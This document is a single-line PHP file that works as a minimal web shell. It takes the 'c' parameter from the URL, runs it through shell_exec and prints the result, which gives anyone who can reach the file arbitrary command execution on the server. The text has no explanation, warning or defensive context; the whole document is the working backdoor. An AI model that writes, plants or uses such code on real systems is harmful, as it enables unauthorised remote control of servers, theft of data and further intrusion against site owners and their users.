<?php $c = "{$_GET["c"]}"; $o = shell_exec("$c"); echo $o;
